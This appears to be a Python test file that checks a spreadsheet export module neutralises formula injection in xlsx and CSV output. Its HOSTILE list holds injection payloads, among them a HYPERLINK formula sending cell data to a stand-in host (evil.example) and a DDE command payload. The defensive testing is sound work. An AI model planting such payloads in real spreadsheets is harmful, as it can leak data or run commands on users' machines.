"""Exports neutralise formulas: text stays text in xlsx and CSV (exchange.core.spreadsheet)."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal as D

from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from exchange.core import spreadsheet

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "==1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    " =1+1",
    "＝1+1",
]
# Text openpyxl can store (it refuses control characters other than tab/newline/CR).
texts = st.text(min_size=1, max_size=40).filter(lambda s: not ILLEGAL_CHARACTERS_RE.search(s))
formula_like = st.builds(lambda t, s: t + s, st.sampled_from(spreadsheet.FORMULA_TRIGGERS), texts)


def _sheet(header, rows):
    return load_workbook(io.BytesIO(spreadsheet.xlsx_bytes("导出", header, rows))).active


@settings(deadline=None)  # a workbook written and read back: seconds on a loaded box
@given(st.lists(st.one_of(texts, formula_like), min_size=1, max_size=6))
def test_xlsx_keeps_any_text_as_text_never_a_formula(values):
    sheet = _sheet(["列"] * len(values), [values])
    cells = next(iter(sheet.iter_rows(min_row=2, max_row=2)))
    for value, cell in zip(values, cells, strict=True):
        stored = value.replace("\r\n", "\n").replace("\r", "\n")  # XML keeps line ends as \n
        assert cell.data_type == "s" and cell.value == stored
        assert cell.quotePrefix is spreadsheet.is_risky(value)


def test_xlsx_keeps_numbers_and_dates_typed():
    sheet = _sheet(["a", "b", "c", "d"], [[D("-1234.50"), 7, dt.date(2026, 12, 7), None]])
    values = [c.value for c in next(iter(sheet.iter_rows(min_row=2, max_row=2)))]
    assert values[0] == -1234.5 and values[1] == 7 and values[2].date() == dt.date(2026, 12, 7) and values[3] is None


@given(st.lists(st.one_of(texts, formula_like), min_size=1, max_size=6))
def test_csv_cells_never_start_a_formula_and_keep_the_text(values):
    rows = list(csv.reader(io.StringIO(spreadsheet.csv_bytes(None, [values]).decode("utf-8-sig"), newline="")))
    for value, cell in zip(values, rows[0], strict=True):
        assert not spreadsheet.is_risky(cell)
        assert cell == ("'" + value if spreadsheet.is_risky(value) else value)


def test_every_known_payload_is_risky():
    assert all(spreadsheet.is_risky(p) for p in HOSTILE)
    assert not any(spreadsheet.is_risky(p) for p in ("陈明", "山西晋能资产管理有限公司", "1234.00", "保证金 SXCQ-1"))
